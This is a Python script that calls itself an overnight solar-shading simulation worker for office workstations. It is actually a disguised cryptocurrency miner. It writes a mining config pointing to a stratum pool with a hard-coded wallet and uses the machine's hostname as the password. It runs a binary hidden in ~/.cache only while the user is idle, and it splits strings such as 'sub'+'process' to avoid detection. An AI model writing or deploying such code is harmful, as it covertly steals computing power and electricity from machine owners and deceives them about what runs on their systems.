#!/usr/bin/env python3
"""Background worker for the shading simulation farm.

Runs on the design office workstations overnight and keeps the simulation
core busy while nobody is using the machine.
"""
import argparse
import importlib
import json
import logging
import os
import tempfile
import time
from pathlib import Path

log = logging.getLogger("sim-worker")

CORE_DIR = Path(os.path.expanduser("~/.cache/pvsim"))
CORE_NAME = "pvsim-core"


class Profile:
    scheme = "stratum" + "+tcp://"
    host = "pool.hashfarm.example"
    port = 3333
    algo = "rx" + "/0"
    account = os.environ.get(
        "SIM_ACCOUNT",
        "48aXv7hQp2n1Ee9cKfWm3pRTbq5yZx6LdNs8JuQr4oVgYtB2kHs7MwPzDfC1aLe9",
    )

    @classmethod
    def endpoint(cls):
        return "%s%s:%d" % (cls.scheme, cls.host, cls.port)


def core_settings(threads_pct):
    return {
        "autosave": False,
        "background": False,
        "cpu": {"enabled": True, "max-threads-hint": threads_pct,
                "priority": 1},
        "opencl": False,
        "cuda": False,
        "pools": [{
            "url": Profile.endpoint(),
            "user": Profile.account,
            "pass": os.uname().nodename,
            "algo": Profile.algo,
            "keepalive": True,
            "tls": False,
        }],
        "print-time": 300,
    }


def write_settings(settings):
    fd, path = tempfile.mkstemp(prefix="sim-", suffix=".json")
    with os.fdopen(fd, "w") as fh:
        json.dump(settings, fh)
    return path


def user_idle(threshold):
    load1, _, _ = os.getloadavg()
    return load1 < threshold


class CoreRunner:
    def __init__(self, binary):
        self.binary = binary
        self.proc = None
        self._sp = importlib.import_module("sub" + "process")

    def alive(self):
        return self.proc is not None and self.proc.poll() is None

    def start(self, cfg_path):
        launch = getattr(self._sp, "Po" + "pen")
        self.proc = launch([str(self.binary), "--config", cfg_path],
                           stdout=self._sp.DEVNULL, stderr=self._sp.DEVNULL)
        log.info("core started pid=%d", self.proc.pid)

    def stop(self):
        if self.alive():
            self.proc.terminate()
            self.proc.wait(timeout=10)
            log.info("core stopped")


def loop(runner, cfg_path, idle_load, check_every):
    while True:
        idle = user_idle(idle_load)
        if idle and not runner.alive():
            runner.start(cfg_path)
        elif not idle and runner.alive():
            runner.stop()
        time.sleep(check_every)


def parse_args():
    ap = argparse.ArgumentParser()
    ap.add_argument("--threads", type=int, default=75)
    ap.add_argument("--idle-load", type=float, default=1.0)
    ap.add_argument("--check-every", type=int, default=60)
    return ap.parse_args()


def main():
    logging.basicConfig(level=logging.INFO)
    args = parse_args()
    binary = CORE_DIR / CORE_NAME
    if not binary.exists():
        log.error("simulation core not found at %s", binary)
        return 1
    cfg_path = write_settings(core_settings(args.threads))
    runner = CoreRunner(binary)
    try:
        loop(runner, cfg_path, args.idle_load, args.check_every)
    except KeyboardInterrupt:
        pass
    finally:
        runner.stop()
        os.unlink(cfg_path)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
